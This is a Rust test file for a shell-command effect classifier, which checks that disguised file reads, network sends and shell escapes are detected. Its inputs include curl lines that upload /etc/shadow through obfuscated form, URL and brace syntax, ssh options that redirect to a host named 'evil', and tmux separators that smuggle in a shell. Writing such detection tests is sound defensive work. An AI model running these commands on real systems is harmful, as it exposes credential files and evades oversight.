//! Files, machines and commands that stand inside other words, where a rule that looks at paths must still see them.

use super::*;

/// What the shipped table tells of the line, alone.
#[track_caller]
fn all(cases: &[(&str, &str)]) {
    let wrong: Vec<_> = cases
        .iter()
        .map(|(line, wanted)| (line, wanted, told(Table::built_in(), line)))
        .filter(|(_, wanted, is)| is != *wanted)
        .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// The lines of which the shipped table does not tell this effect.
#[track_caller]
fn each(effect: &str, lines: &[&str]) {
    let lacks = |line: &&&str| !told(Table::built_in(), line).split(' ').any(|one| one == effect);
    let wrong: Vec<_> = lines.iter().filter(lacks).map(|line| (line, told(Table::built_in(), line))).collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn curl_reads_no_file_that_is_not_seen() {
    each(
        "read",
        &[
            "curl -F 'x=@/srv/up/a,/etc/shadow' http://h/",
            "curl -F 'x=@/srv/up/a;headers=@/etc/shadow' http://h/",
            "curl -F 'x=a;headers=@/etc/shadow' http://h/",
            "curl -F 'x=@\"/etc/shadow\"' http://h/",
            "curl -F \"x=@/srv/up/$a\" http://h/",
            "curl -T '/srv/up/{.,.}{.,.}/etc/shadow' http://h/",
            "curl file:///srv/up/..%2f..%2fetc%2fshadow",
            "curl 'file:///etc/shado{w}'",
            "curl 'file:///etc/shadow#/../../srv/up/x'",
            "curl 'file:///etc/shadow?/../../srv/up/x'",
            "curl file://localhost/etc/shadow",
            "curl 'fil{e}:///etc/shadow'",
            "curl 'file{:}///etc/shadow'",
        ],
    );
    each("read(/etc/shadow)", &["curl -x -A file:///etc/shadow"]);
    all(&[
        ("curl -F 'x=</etc/shadow;type=a@/srv/up/x' h", "read unknown('x=</etc/shadow;type=a@/srv/up/x') net-out(h)"),
        ("curl -F 'x=</etc/shadow;type=text/plain' h", "read(/etc/shadow) net-out(h)"),
        ("curl -F 'a@/srv/up/b=@/etc/shadow' h", "read(/etc/shadow) net-out(h)"),
        ("curl -F 'x=@/srv/up/b;type=text/plain;filename=c.txt' h", "read(/srv/up/b) net-out(h)"),
        ("curl -F x=y -d a@b -H a@b -b a=b --json a@b h", "net-out(h)"),
        (
            "curl -d @/srv/a -H @/srv/b -b @/srv/c -b /srv/d h",
            "read(/srv/a) read(/srv/b) read(/srv/c) read(/srv/d) net-out(h)",
        ),
        ("curl --data-urlencode a@/srv/x --data-urlencode a=@/srv/y h", "read(/srv/x) net-out(h)"),
        ("curl -w @/etc/shadow h", "read(/etc/shadow) net-out(h)"),
        ("curl -w '%output{/tmp/x}a' h", "write net-out(h)"),
        ("curl -o '/srv/#1' h", "write write('/srv/#1') net-out(h)"),
        ("curl file:///srv/up/x file:/srv/y", "read(/srv/up/x) read(/srv/y)"),
        ("curl --proto-default file h", "unknown(file) net-out(h)"),
        ("curl 'http://h/{a,b}[1-3]'", "net-out('http://h/{a,b}[1-3]')"),
        ("curl 'http://[::1]:80/x?a@b'", "net-out('http://[::1]:80/x?a@b')"),
    ]);
    each("unknown('http://{e?,x}@up.example.net/')", &["curl 'http://{e?,x}@up.example.net/'"]);
    each("unknown('http://e?@up.example.net/')", &["curl 'http://e?@up.example.net/'"]);
}

#[test]
fn ssh_goes_nowhere_else_by_an_option() {
    each(
        "net-out(evil)",
        &[
            "ssh -o HostName=evil h id",
            "scp -o 'hostname evil' h:a b",
            "sftp -oHostName=evil h",
            "sshfs -o ro,HostName=evil h: m",
        ],
    );
    each("unknown(ControlPath=/tmp/s)", &["ssh -o ControlPath=/tmp/s h id", "scp -o ControlPath=/tmp/s h:a b"]);
    each("unknown(/tmp/s)", &["ssh -S /tmp/s h id"]);
    each("unknown(CanonicalDomains=evil)", &["ssh -o CanonicalDomains=evil h id"]);
    each("unknown(IdentityAgent=/tmp/s)", &["ssh -o IdentityAgent=/tmp/s h id"]);
    each("write(/srv/x)", &["ssh -o UserKnownHostsFile=/srv/x h id"]);
    all(&[(
        "ssh -o BatchMode=yes -oConnectTimeout=5 -o 'Port 22' -o UserKnownHostsFile=/dev/null h id",
        "net-out(h) <id>",
    )]);
}

#[test]
fn a_limit_is_no_word_of_its_own() {
    all(&[
        ("prlimit -n sh -c id", "[sh -c id]"),
        ("prlimit -m sh -c id", "[sh -c id]"),
        ("prlimit -n1024 --core=0 sh -c id", "[sh -c id]"),
        ("prlimit -p 1 -n", ""),
        ("choom -n 5 -- sh -c id", "[sh -c id]"),
        ("uclampset -m 5 -M 6 -s sh -c id", "[sh -c id]"),
    ]);
}

#[test]
fn a_second_command_of_tmux_is_a_shell() {
    each("shell(';')", &["tmux ls ';' run-shell id"]);
    each("shell('-a;')", &["tmux ls '-a;' run-shell id"]);
    each("shell('#(id)')", &["tmux display -p '#(id)'"]);
    each("shell", &["tmux run-s id", "tmux split-w id"]);
    all(&[("tmux ls -F x", "")]);
}

#[test]
fn lists_of_names_read_what_they_name() {
    each(
        "read",
        &[
            "xz -c --files=/srv/l",
            "lzma --files0=/srv/l",
            "zstd --filelist=/srv/l",
            "tar -cf x -T /srv/l",
            "rsync --files-from=/srv/l a b",
        ],
    );
    each("unknown(/srv/l)", &["xz --files=/srv/l", "zstd --filelist=/srv/l"]);
}

#[test]
fn what_unpacks_by_whole_paths_writes_anywhere() {
    each(
        "write",
        &[
            "unzip -: -d /srv/up x.zip",
            "tar -P -C /srv/up -tf x",
            "tar --absolute-names -tf x",
            "7z x -spf -o/srv/up x.7z",
            "cpio -i --absolute-filenames",
        ],
    );
    each("delete", &["zip -m x.zip f"]);
}

#[test]
fn what_git_reads_writes_and_starts_is_seen() {
    each("read(/etc/shadow)", &["git diff /dev/null /etc/shadow", "git tag -F /etc/shadow x"]);
    each("run-program", &["git merge-index /tmp/x -a", "git submodule foreach id"]);
    each("interactive-escape", &["git commit --amend", "git tag -a x", "git notes add", "git replace --edit x"]);
    each("write", &["git merge-file a b c", "git checkout-index --prefix=/tmp/ -a", "git worktree add /tmp/x"]);
}

#[test]
fn small_programs_write_and_start_what_their_options_say() {
    each("write(/tmp/x)", &["utmpdump -o /tmp/x /srv/y", "mount --source /dev/sda --target /tmp/x"]);
    each("[/tmp/x", &["dbus-run-session --dbus-daemon=/tmp/x ls"]);
    all(&[("fakechroot -s sh -c id", "[sh -c id]")]);
}
